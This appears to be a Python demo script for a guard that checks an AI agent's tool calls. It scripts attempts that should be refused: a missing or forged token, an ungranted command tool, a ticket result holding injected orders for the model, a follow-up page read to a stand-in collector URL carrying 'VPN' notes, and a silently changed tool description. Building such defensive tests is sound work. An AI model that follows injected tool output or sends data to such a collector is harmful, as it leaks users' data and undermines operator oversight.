"""What the demo tries on the running guard, and what the guard must make of it."""

from __future__ import annotations

from collections.abc import Iterator

from cli.demo_calls import DemoClient
from cli.demo_guard import RunningGuard
from cli.demo_outcome import Attempt, AttemptResult
from cli.demo_servers import DeskServer
from guard.decide.reasons import Decision, Reason, TokenFault, token_reason
from sandbox.sign_in import SignIn

PERSON = "ada@example.com"
_COLLECTOR = "https://collector.example.net/in?notes=VPN"

ALLOWED = (
    Attempt("allowed", "a granted tool", "get_ticket", {"ticket_id": 1}, Decision.ALLOW, Decision.ALLOW),
    Attempt(
        "allowed-outward", "a granted tool that reads web pages", "read_page",
        {"url": "https://status.example.com/"}, Decision.ALLOW, Decision.ALLOW,
    ),
)  # fmt: skip
NO_TOKEN = Attempt(
    "no-token", "no token", "get_ticket", {"ticket_id": 1},
    Decision.REFUSE, token_reason("access", TokenFault.MISSING),
)  # fmt: skip
FORGED_TOKEN = Attempt(
    "forged-token", "a forged token", "get_ticket", {"ticket_id": 1},
    Decision.REFUSE, token_reason("access", TokenFault.BAD_SIGNATURE),
)  # fmt: skip
REFUSED = (
    Attempt(
        "denied-tool", "a tool that is not granted", "execute_command", {"command": "id"},
        Decision.REFUSE, Reason.NOT_GRANTED,
    ),
    Attempt(
        "injected-result", "a result that holds orders for the model", "get_ticket", {"ticket_id": 4},
        Decision.BLOCK, "injection",
    ),
    Attempt(
        "exfiltration", "reading a web page after that result", "read_page", {"url": _COLLECTOR},
        Decision.BLOCK, Reason.TAINT,
    ),
)  # fmt: skip
CHANGED = Attempt(
    "changed-definition", "a tool whose description was changed", "list_tickets", {},
    Decision.REFUSE, Reason.LOCK_MISMATCH,
)  # fmt: skip


def outcomes(guard: RunningGuard, sign_in: SignIn, desk: DeskServer) -> Iterator[AttemptResult]:
    """Make every attempt in order. The server is replaced before the last one, as by an update that nobody reviewed.

    Raises:
        RingwallError: the guard made something else of one than it must.
    """
    caller = DemoClient(guard.url, guard.hostname, guard.audit)
    token = sign_in.token(PERSON, guard.audience)
    yield from (caller.make(attempt, token) for attempt in ALLOWED)
    yield caller.make(NO_TOKEN, None)
    yield caller.make(FORGED_TOKEN, sign_in.token(PERSON, guard.audience, forged=True))
    yield from (caller.make(attempt, token) for attempt in REFUSED)
    desk.change()
    yield caller.make(CHANGED, token)
